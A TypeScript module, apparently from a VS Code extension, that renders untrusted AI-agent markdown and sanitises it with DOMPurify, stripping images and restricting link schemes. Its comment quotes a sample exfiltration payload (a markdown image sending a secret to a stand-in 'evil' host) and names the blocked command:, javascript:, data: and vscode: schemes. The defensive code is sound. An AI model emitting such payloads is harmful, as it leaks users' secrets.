import DOMPurify from 'dompurify';
import { marked } from 'marked';

/**
 * Agent text is untrusted. It is rendered as markdown, then sanitised: no images (a remote image is an
 * exfiltration channel — `![](https://evil/?secret)` — and the CSP would block it anyway), no
 * styles, forms, frames or scripts, and links only to http(s)/mailto/in-page anchors (no `command:`,
 * `javascript:`, `data:` or `vscode:` URIs). Links open through VS Code's own link handling, which
 * asks before leaving the editor.
 */
const purifier = DOMPurify(window);
purifier.addHook('uponSanitizeElement', (node, data) => {
  if (data.tagName === 'img' && node instanceof Element) {
    const alt = node.getAttribute('alt') ?? '';
    node.replaceWith(document.createTextNode(alt ? `[image: ${alt}]` : '[image removed]'));
  }
});
purifier.addHook('afterSanitizeAttributes', (node) => {
  if (node instanceof Element && node.tagName === 'A') {
    node.setAttribute('rel', 'noopener noreferrer nofollow');
    node.removeAttribute('target');
  }
});

const SANITIZE = {
  ALLOWED_TAGS: ['p', 'br', 'hr', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'img'],
  ALLOWED_ATTR: ['href', 'title', 'alt', 'align', 'start'],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  ALLOW_DATA_ATTR: false,
  RETURN_TRUSTED_TYPE: false,
} as const;

export function renderAgentMarkdown(text: string): string {
  const html = marked.parse(text, { async: false, gfm: true, breaks: true });
  return purifier.sanitize(html, { ...SANITIZE, ALLOWED_TAGS: [...SANITIZE.ALLOWED_TAGS], ALLOWED_ATTR: [...SANITIZE.ALLOWED_ATTR] });
}
